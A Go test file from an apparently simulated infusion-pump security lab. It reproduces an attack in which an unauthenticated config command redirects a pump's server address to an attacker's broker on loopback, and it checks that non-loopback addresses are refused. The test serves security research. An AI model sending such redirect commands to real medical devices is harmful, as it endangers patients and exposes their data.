package pump

import (
	"testing"
	"time"

	"github.com/pumplab/pumplab/simulators/pumpwire"
)

// TestServerAddressMovesAgent is ATK-33 on real brokers: a config command
// on the (legacy, unauthenticated) command topic sets server_address to the
// attacker's broker; the pump leaves the hospital broker and reports to the
// attacker from then on.
func TestServerAddressMovesAgent(t *testing.T) {
	hosp, hospAddr := startBroker(t, "127.0.0.1:0", nil)
	defer hosp.Close()
	evil, evilAddr := startBroker(t, "127.0.0.1:0", nil)
	defer evil.Close()
	hospURL, evilURL := "tcp://"+hospAddr, "tcp://"+evilAddr
	server := newTestServer(t, hospURL)
	sink := newTestServer(t, evilURL)
	r, a := newAgentRig(t, hospURL, Config{ID: "PUMP-0033"}, AgentConfig{})
	if got := r.p.ServerAddress(); got != hospURL {
		t.Fatalf("stored server address %q, want %q", got, hospURL)
	}
	server.wait("status at the hospital", func(m rxMsg) bool { return m.kind == pumpwire.KindStatus })

	server.send(r.p.ID(), pumpwire.Command{CmdID: "K33", Op: pumpwire.OpConfig, Settings: map[string]string{pumpwire.SetServerAddress: evilURL}})
	// The ack and the config_changed event may reach either broker: the
	// agent moves as soon as the setting applies, with them in its outbox.
	either := func(what string, pred func(rxMsg) bool) rxMsg {
		t.Helper()
		deadline := time.Now().Add(waitFor)
		for {
			for _, m := range append(server.received(), sink.received()...) {
				if pred(m) {
					return m
				}
			}
			if time.Now().After(deadline) {
				t.Fatalf("no %s on either broker", what)
			}
			select {
			case <-server.notify:
			case <-sink.notify:
			case <-time.After(50 * time.Millisecond):
			}
		}
	}
	ack := either("ack of the config command", func(m rxMsg) bool {
		x, ok := m.body.(*pumpwire.CommandAck)
		return ok && x.CmdID == "K33"
	}).body.(*pumpwire.CommandAck)
	if ack.Result != pumpwire.ResultAccepted {
		t.Fatalf("config ack %+v", ack)
	}
	either("config_changed event", isEvent(EvConfigChanged))
	sink.wait("the pump's status at the attacker's broker", func(m rxMsg) bool {
		return m.kind == pumpwire.KindStatus && m.env.From == "PUMP-0033"
	})
	// The hospital broker's subscribers saw the pump leave.
	server.wait("online=false at the hospital", func(m rxMsg) bool {
		o, ok := m.body.(*pumpwire.Online)
		return ok && !o.Online && m.env.From == "PUMP-0033"
	})
	if a.BrokerURL() != evilURL || a.Counters().Moves != 1 || r.p.ServerAddress() != evilURL {
		t.Fatalf("agent broker %s moves %d stored %s", a.BrokerURL(), a.Counters().Moves, r.p.ServerAddress())
	}
	// A non-loopback address is refused: the lab never dials out.
	sink.send(r.p.ID(), pumpwire.Command{CmdID: "K34", Op: pumpwire.OpConfig, Settings: map[string]string{pumpwire.SetServerAddress: "tcp://198.51.100.7:1883"}})
	if ack := sink.ack("K34"); ack.Code != "CFG-VALUE" {
		t.Fatalf("non-loopback address: %+v", ack)
	}
}
